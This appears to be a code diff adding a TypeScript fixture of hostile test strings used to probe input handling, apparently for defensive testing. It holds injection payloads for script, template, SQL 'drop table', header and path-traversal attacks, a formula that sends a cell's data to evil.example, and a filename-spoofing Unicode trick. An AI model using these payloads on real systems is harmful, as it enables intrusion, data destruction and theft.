@@ -1,0 +1,35 @@
+/**
+ * Text that has broken programs: markup and scripts, other languages inside of it, what one reader of it takes for
+ * something else than another, and what text must not hold.
+ */
+export const hostileStrings = {
+  script: '<script>document.title = "taken"</script>',
+  'a handler': '"><img src=x onerror="document.title=\'taken\'">',
+  'the end of a script': '</script></style></title><svg onload=alert(1)>',
+  'a script address': 'javascript:alert(document.domain)//',
+  'a template': '{{constructor.constructor("alert(1)")()}}${7*7}<%= 7*7 %>#{7*7}',
+  SQL: "'; drop table data.partition; --",
+  'patterns of SQL': String.raw`%_\%\_\\`,
+  'a pattern without an end': String.raw`(a+)+$[[\d`,
+  'a formula': '=HYPERLINK("http://evil.example/"&A1;"x")',
+  markdown: '[x](javascript:alert(1)) ![x](http://evil.example/x.png)',
+  'another direction': '\u202egnp.exe\u2066\u200f\u061c',
+  'no width': '\u200b\ufeff\u00ad\u2060',
+  emoji: '\u{1F469}\u200d\u{1F469}\u200d\u{1F467}\u{1F3F4}\u{E0067}\u{E0062}\u{E007F}',
+  'many marks': `Z${'\u0335\u0348\u030d'.repeat(20)}`,
+  'letters that change their number': '\u0130\u0131\u00df\ufb03\u1e9e\u2126',
+  'the prototype': '__proto__',
+  'a name of every object': 'constructor',
+  'lines of headers': 'x\r\nBcc: evil@example.org\r\n\r\nx',
+  control: '\u0001\u0007\u001b[31m\u007f\u0085\u2028\u2029',
+  NUL: 'a\0b',
+  'half a character': 'a\ud800b',
+  'a path': '../../../../etc/passwd',
+  'a number': '1e999',
+  'no number': 'NaN',
+  'far away': '9999-12-31T23:59:59.999999Z',
+  'long ago': '0000-01-01T00:00:00Z',
+  infinite: 'infinity',
+  long: 'a'.repeat(3000),
+  'long without a place to break': '\u{1F4A3}'.repeat(500),
+} as const;
